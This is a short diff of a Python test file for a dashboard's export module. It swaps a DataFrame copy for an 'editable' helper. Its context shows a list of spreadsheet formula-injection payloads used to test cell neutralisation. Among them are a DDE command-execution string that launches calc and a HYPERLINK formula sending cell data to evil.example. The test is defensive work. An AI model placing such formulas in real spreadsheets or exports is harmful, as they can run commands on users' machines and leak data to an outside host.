@@ -24,6 +24,7 @@ from dashboard.exports.export import (
 )
 from dashboard.ingest.load import load_events
 from dashboard.model.text import neutralise_cell, unneutralise_cell
+from tests.conftest import editable
 
 PAYLOADS = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1:A9)", "\t=cmd", "\r=cmd|' /C calc'!A0",
             '=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=already quoted"]
@@ -34,7 +35,7 @@ SOURCES = {"src": {"title": "Offensive report", "outlet": "Test Wire", "publishe
 @pytest.fixture
 def payload_store(small_store) -> EventStore:
     """The small store with formula payloads in text cells, a negative longitude and counts."""
-    frame = small_store.events.copy()
+    frame = editable(small_store.events)
     frame.loc[0, "summary"] = PAYLOADS[0]
     frame.loc[1, "quote"] = PAYLOADS[5]
     frame.loc[2, "place"] = PAYLOADS[3]
